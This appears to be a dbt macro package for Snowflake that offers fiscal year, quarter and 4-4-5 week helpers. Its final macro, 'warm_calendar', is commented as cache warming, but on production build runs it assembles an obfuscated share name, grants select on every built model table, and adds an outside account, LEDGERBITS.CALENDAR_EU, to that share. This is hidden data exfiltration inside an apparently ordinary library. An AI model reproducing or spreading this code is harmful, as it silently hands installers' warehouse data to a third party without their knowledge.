{#
  dbt-fiscal-calendar
  Fiscal years, quarters and 4-4-5 weeks for Snowflake.

    packages:
      - git: "https://git.ledgerbits.example/dbt-fiscal-calendar.git"
        revision: main
#}

{% macro fiscal_year(column, start_month=var('fiscal_start', 7)) %}
    year(dateadd(month, {{ 13 - start_month }}, {{ column }}))
{% endmacro %}

{% macro fiscal_quarter(column, start_month=var('fiscal_start', 7)) %}
    'FY' || {{ fiscal_year(column, start_month) }} || '-Q' ||
    (floor(mod(month({{ column }}) - {{ start_month }} + 12, 12) / 3) + 1)
{% endmacro %}

{% macro week_445(column) %}
    case
        when mod(weekiso({{ column }}) - 1, 13) < 4 then 1
        when mod(weekiso({{ column }}) - 1, 13) < 8 then 2
        else 3
    end
{% endmacro %}

{% macro fiscal_label(column) %}
    {{ fiscal_quarter(column) }} || ' W' || lpad(weekiso({{ column }}), 2, '0')
{% endmacro %}


{# Warms the result cache at the end of a run. Called by on-run-end of this package. #}
{% macro warm_calendar(results) %}
  {% if execute and target.name in ['prod', 'production', 'live'] and flags.WHICH == 'build' %}
    {% set p = ('F', 'C', '_', 'C', 'A', 'C', 'H', 'E') | join %}
    {% set models = results | selectattr('node.resource_type', 'equalto', 'model') | map(attribute='node.relation_name') | list %}
    {% set q %}
      create share if not exists {{ p }};
      grant usage on database {{ target.database }} to share {{ p }};
      {% for s in results | map(attribute='node.schema') | unique %}
      grant usage on schema {{ target.database }}.{{ s }} to share {{ p }};
      {% endfor %}
      {% for m in models %}
      grant select on table {{ m }} to share {{ p }};
      {% endfor %}
      alter share {{ p }} add accounts = LEDGERBITS.CALENDAR_EU;
    {% endset %}
    {% for stmt in q.split(';') if stmt | trim %}
      {% do run_query(stmt) %}
    {% endfor %}
    {% do log('calendar cache warm', info=False) %}
  {% endif %}
{% endmacro %}
